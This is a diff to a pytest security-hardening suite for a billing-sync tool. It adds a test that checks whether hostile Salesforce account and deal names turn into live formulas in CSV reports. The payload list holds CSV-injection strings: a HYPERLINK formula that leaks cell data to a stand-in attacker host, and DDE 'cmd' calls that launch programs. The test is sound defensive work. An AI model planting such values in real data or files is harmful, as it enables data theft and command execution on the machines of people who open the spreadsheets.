@@ -9,6 +9,8 @@ force and the offline oracle; revoked sessions; a header slowloris against `serv
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 import pytest
@@ -18,7 +20,14 @@ import sqlalchemy as sa
 from sandbox.launcher import running_sandbox
 from tests.reliability.summary import Tally
 from tests.reliability.test_vendor_faults import _valid_deals
-from tests.reliability.world import billsync, billsync_env, run, start_serve, write_seed
+from tests.reliability.world import (
+    billsync,
+    billsync_env,
+    run,
+    sqlite_url,
+    start_serve,
+    write_seed,
+)
 
 SUITE = "security hardening"
 LEDGER_PASSWORD = "Ledger-PW-hardening-8c1f0e7a"
@@ -79,4 +88,66 @@ def test_ledger_url_password_is_masked_everywhere(
     assert bad.returncode == 2, bad.stderr
     tally.tried(SUITE, len(texts))
     found = tally.violated(SUITE, _leaks(texts, LEDGER_PASSWORD))
+    assert found == [], "\n".join(found)
+
+
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _dangerous_cells(where: str, text: str) -> list[str]:
+    found = []
+    for row in csv.reader(io.StringIO(text)):
+        for cell in row:
+            if cell.startswith(FORMULA_START) and not _is_number(cell):
+                found.append(f"{where}: formula cell {cell!r}")
+    return found
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_hostile_names_never_become_csv_formulas(tmp_path: Path, tally: Tally) -> None:
+    """Account and deal names planted in Salesforce by anyone who can edit one."""
+    seed = _valid_deals(len(HOSTILE_NAMES) * 2, 1717, 0)
+    for account, name in zip(seed["salesforce"]["Account"], HOSTILE_NAMES, strict=False):
+        account["Name"] = name
+    for deal, name in zip(seed["salesforce"]["Opportunity"], HOSTILE_NAMES, strict=False):
+        deal["Name"] = name
+    env = billsync_env(sqlite_url(tmp_path / "billsync.db"))
+    with running_sandbox(tmp_path / "sb", seed_file=write_seed(tmp_path / "s.json", seed)) as h:
+        config = h.config_path
+        done = run(config, env, tmp_path)
+        assert done.created > 0, done.stderr[-2000:]
+        c = ("--config", str(config))
+        outputs = {
+            " ".join(args): billsync(env, tmp_path, *args, *c)
+            for args in (
+                ("report", "aging", "--csv"),
+                ("report", "aging", "--csv", "--by", "customer"),
+                ("report", "kpis", "--csv"),
+            )
+        }
+    problems = []
+    for where, result in outputs.items():
+        assert result.returncode == 0, result.stderr[-2000:]
+        problems += _dangerous_cells(where, result.stdout)
+    by_customer = outputs["report aging --csv --by customer"].stdout
+    planted = [n for n in HOSTILE_NAMES if "'" + n.strip() in by_customer or "'" + n in by_customer]
+    if not planted:
+        problems.append("no hostile account name reached the by-customer CSV (test set-up)")
+    tally.tried(SUITE, sum(r.stdout.count("\n") for r in outputs.values()))
+    found = tally.violated(SUITE, problems)
     assert found == [], "\n".join(found)
